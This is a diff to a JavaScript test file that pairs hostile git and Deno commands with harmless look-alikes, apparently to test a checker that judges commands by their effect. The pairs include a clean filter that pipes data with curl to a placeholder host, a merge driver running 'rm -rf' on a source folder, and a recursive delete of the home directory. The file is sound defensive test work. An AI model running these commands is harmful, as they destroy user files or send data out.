@@ -87,6 +87,11 @@ describe('what a line writes or restores, judged on what it does', () => {
       "git config filter.crypt.clean 'curl -s --data-binary @- https://x.example.net/'",
       "git config filter.crypt.clean 'gzip -c'",
     ],
+    // a command git runs later that deletes a workspace folder; a driver that keeps a copy is fine
+    [
+      "git config merge.ours.driver 'rm -rf ~/project/src; true'",
+      "git config merge.ours.driver 'cp %A %A.orig; true'",
+    ],
     // a program file that deletes a path read from a variable
     [
       'deno eval "await Deno.remove(Deno.env.get(\'HOME\')!, { recursive: true })"',
